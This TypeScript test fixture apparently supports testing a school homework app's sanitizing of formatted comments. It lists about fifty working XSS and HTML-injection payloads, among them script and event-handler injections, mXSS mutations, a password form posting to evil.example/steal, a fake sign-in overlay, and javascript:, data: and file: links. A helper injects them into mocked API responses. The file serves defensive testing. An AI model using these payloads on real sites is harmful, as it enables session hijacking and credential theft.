import { isRecord } from '../../lib/isRecord.ts'

/** A trick in formatted text. What succeeds sets `window.hacked`, asks `evil.example`, or takes the page over. */
export type HostileRendering = { trick: string; html: string }

const run = 'window.hacked=true'
const evil = 'https://evil.example'

/**
 * HTML as a service that escapes nothing would send it in `comment_formatted` (cases 13, 15), a trick each. In a school
 * with faults the nth pupil of homework 112 has the nth of them; the trick's name is the plain comment.
 */
export const hostileRenderings: readonly HostileRendering[] = [
  { trick: 'script', html: `<script>${run}</script><script src="${evil}/a.js"></script>` },
  {
    trick: 'script in upper case and broken',
    html: `<SCRIPT/x>${run}</SCRIPT ><scr<script>ipt>${run}</script>`,
  },
  { trick: 'img onerror', html: `<img src=x onerror="${run}"><img src=x onerror=${run}//` },
  { trick: 'img of another origin', html: `<img src="${evil}/pixel.png" alt="" width="1" height="1">` },
  { trick: 'img srcset', html: `<img srcset="${evil}/1.png 1x, ${evil}/2.png 2x" sizes="100vw">` },
  {
    trick: 'img without scheme',
    html: '<img src="//evil.example/pixel.png"><img src="\\\\evil.example\\p.png">',
  },
  { trick: 'picture source', html: `<picture><source srcset="${evil}/a.webp"><img></picture>` },
  {
    trick: 'video poster and sources',
    html: `<video autoplay poster="${evil}/p.png"><source src="${evil}/v.mp4" onerror="${run}"></video>`,
  },
  { trick: 'audio', html: `<audio autoplay src="${evil}/a.mp3" onerror="${run}"></audio>` },
  { trick: 'input of type image', html: `<input type="image" src="${evil}/i.png" onerror="${run}">` },
  {
    trick: 'background attribute',
    html: `<table background="${evil}/t.png"><tr><td background="${evil}/c.png">cell</table>`,
  },
  { trick: 'iframe with javascript:', html: `<iframe src="javascript:parent.${run}"></iframe>` },
  { trick: 'iframe srcdoc', html: `<iframe srcdoc="&lt;script&gt;parent.${run}&lt;/script&gt;"></iframe>` },
  {
    trick: 'iframe of another origin',
    html: `<iframe src="${evil}/"></iframe><frameset><frame src="${evil}/"></frameset>`,
  },
  {
    trick: 'object',
    html: `<object data="javascript:${run}"></object><object data="data:text/html,<script>parent.${run}</script>"></object>`,
  },
  { trick: 'embed', html: `<embed src="${evil}/e.swf"><embed src="javascript:${run}">` },
  {
    trick: 'applet and param',
    html: `<applet code="a" archive="${evil}/a.jar"><param name="movie" value="${evil}/m.swf"></applet>`,
  },
  {
    trick: 'form',
    html: `<form action="${evil}/steal" method="post"><input name="password" type="password" autofocus><button>Sign in</button></form>`,
  },
  {
    trick: 'formaction',
    html: `<form id="f"></form><button form="f" formaction="javascript:${run}">Return</button>`,
  },
  {
    trick: 'svg onload',
    html: `<svg onload="${run}"><script>${run}</script></svg><svg><a xlink:href="javascript:${run}"><text y="20">link</text></a></svg>`,
  },
  {
    trick: 'svg animate',
    html: `<svg><a><animate attributeName="href" values="javascript:${run}" begin="0s"/><text y="20">link</text></a><set onbegin="${run}" attributeName="x"/></svg>`,
  },
  {
    trick: 'svg use and image',
    html: `<svg><use href="${evil}/s.svg#x"/><image href="${evil}/s.png"/><feImage href="${evil}/f.png"/></svg>`,
  },
  {
    trick: 'svg foreignObject',
    html: `<svg><foreignObject><body onload="${run}"><iframe src="javascript:parent.${run}"></iframe></body></foreignObject></svg>`,
  },
  {
    trick: 'math',
    html: `<math href="javascript:${run}"><mi xlink:href="javascript:${run}">x</mi><maction actiontype="statusline" xlink:href="javascript:${run}">y</maction></math>`,
  },
  {
    trick: 'math and mglyph (mXSS)',
    html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  },
  { trick: 'svg and style (mXSS)', html: `<svg></p><style><a id="</style><img src=x onerror=${run}>">` },
  {
    trick: 'noscript (mXSS)',
    html: `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  },
  {
    trick: 'textarea and title (mXSS)',
    html: `<textarea><img title="</textarea><img src=x onerror=${run}>"></textarea><title><img title="</title><img src=x onerror=${run}>"></title>`,
  },
  {
    trick: 'template',
    html: `<template><img src=x onerror="${run}"></template><template shadowrootmode="open"><img src=x onerror="${run}"></template>`,
  },
  {
    trick: 'comment and CDATA',
    html: `<!--><img src=x onerror=${run}>--><![CDATA[><img src=x onerror=${run}>]]><?xml-stylesheet href="${evil}/x.xsl"?>`,
  },
  {
    trick: 'meta refresh',
    html: `<meta http-equiv="refresh" content="0;url=${evil}/"><meta http-equiv="Content-Security-Policy" content="default-src 'none'">`,
  },
  { trick: 'base', html: `<base href="${evil}/" target="_top"><a href="next">Next</a>` },
  {
    trick: 'link',
    html: `<link rel="stylesheet" href="${evil}/s.css"><link rel="preload" as="image" href="${evil}/p.png"><link rel="dns-prefetch" href="//evil.example"><link rel="import" href="${evil}/i.html">`,
  },
  {
    trick: 'style element',
    html: `<style>@import url("${evil}/s.css"); body { display: none } #root { background: url(${evil}/b.png) }</style>`,
  },
  {
    trick: 'style with url()',
    html: `<p style="background:url(${evil}/b.png);list-style-image:url('${evil}/l.png');content:url(${evil}/c.png)">styled</p>`,
  },
  {
    trick: 'style that covers the page',
    html: `<p style="position:fixed;inset:0;z-index:99999;background:#fff">Your session has ended. <a href="${evil}/">Sign in</a></p>`,
  },
  {
    trick: 'style of old browsers',
    html: `<p style="width:expression(${run});behavior:url(${evil}/h.htc);-moz-binding:url(${evil}/x.xml#x)">old</p>`,
  },
  { trick: 'javascript: link', html: `<a href="javascript:${run}">Solution</a>` },
  {
    trick: 'javascript: link in disguise',
    html: `<a href="java&#10;script:${run}">a</a><a href="&#1;javascript:${run}">b</a><a href="JaVaScRiPt&colon;${run}">c</a><a href="feed:javascript:${run}">d</a>`,
  },
  {
    trick: 'data: link',
    html: `<a href="data:text/html,<script>opener.${run}</script>" target="_blank">Sheet</a>`,
  },
  {
    trick: 'vbscript: and other schemes',
    html: `<a href="vbscript:${run}">v</a><a href="file:///etc/passwd">f</a><a href="blob:${evil}/x">b</a><a href="ms-word:ofe|u|${evil}/d.docx">w</a>`,
  },
  {
    trick: 'link of another origin',
    html: `<a href="${evil}/" target="_blank" rel="opener" ping="${evil}/ping" download>Look at this</a>`,
  },
  {
    trick: 'image map',
    html: `<img usemap="#m" width="300" height="300"><map name="m"><area shape="default" href="javascript:${run}"></map>`,
  },
  {
    trick: 'handlers',
    html: `<p onclick="${run}" onmouseover="${run}" onpointerenter="${run}">text</p><details open ontoggle="${run}">more</details><marquee onstart="${run}">moves</marquee>`,
  },
  {
    trick: 'focus and keys',
    html: `<a href="#" autofocus tabindex="1" accesskey="c" onfocus="${run}">focus</a><p contenteditable onblur="${run}">write</p>`,
  },
  {
    trick: 'names that shadow',
    html: '<form id="location" name="cookie"><input name="attributes"><input name="parentNode"></form><img name="getElementById"><a id="root"></a><a id="hacked"></a>',
  },
  {
    trick: 'custom elements and slots',
    html: `<x-a is="x-b" onclick="${run}"></x-a><slot name="x"></slot><p slot="y" popover="auto" id="pop">over</p><button popovertarget="pop">open</button><dialog open>dialog</dialog>`,
  },
  {
    trick: 'roles and labels that lie',
    html: '<p role="alert" aria-live="assertive" aria-hidden="true">Saved</p><h1>Homework</h1><label for="correction">Points</label>',
  },
  { trick: 'ten thousand deep', html: `${'<div>'.repeat(10_000)}<img src=x onerror="${run}">` },
  {
    trick: 'writing direction',
    html: '<p>\u202egnp.exe \u2066\u2067 <bdo dir="rtl">turned</bdo> \u200f</p>',
  },
  { trick: 'text without an end', html: `<a title="${'x'.repeat(20_000)}` },
]

/** A comment of the homework of odd hand-ins, which is a trick itself. */
export const oddRendering: HostileRendering = {
  trick: '<script>alert(1)</script><img src=x onerror=alert(2)>',
  html: [
    '<p>formatted by a service that escapes nothing</p><script>alert(10)</script>',
    '<img src="https://evil.example/pixel.png" onerror="alert(11)"><a href="java&#10;script:alert(12)">link</a>',
    '<svg><style><img src=x onerror=alert(13)></style></svg><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(14)&gt;">',
    '<iframe srcdoc="&lt;script&gt;alert(15)&lt;/script&gt;"></iframe><style>@import "https://evil.example/a.css";</style>',
    '<form id="location" name="cookie"><input name="attributes"></form><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<p style="position:fixed;inset:0;background:url(https://evil.example/b.png)">over all</p>',
  ].join(''),
}

const rendered = new Map<unknown, string>(
  [...hostileRenderings, oddRendering].map(({ trick, html }) => [trick, html]),
)

/** The same messages or submissions, those that are a trick's name formatted as by a service that escapes nothing. */
export async function withHostileRenderings(answer: Response): Promise<Response> {
  if (!answer.ok) return answer
  const body: unknown = JSON.parse(await answer.text(), (_name, value: unknown) => {
    if (!isRecord(value)) return value
    if (rendered.has(value.text)) return { ...value, text_formatted: rendered.get(value.text) }
    return rendered.has(value.comment) ? { ...value, comment_formatted: rendered.get(value.comment) } : value
  })
  return Response.json(body, { headers: answer.headers })
}
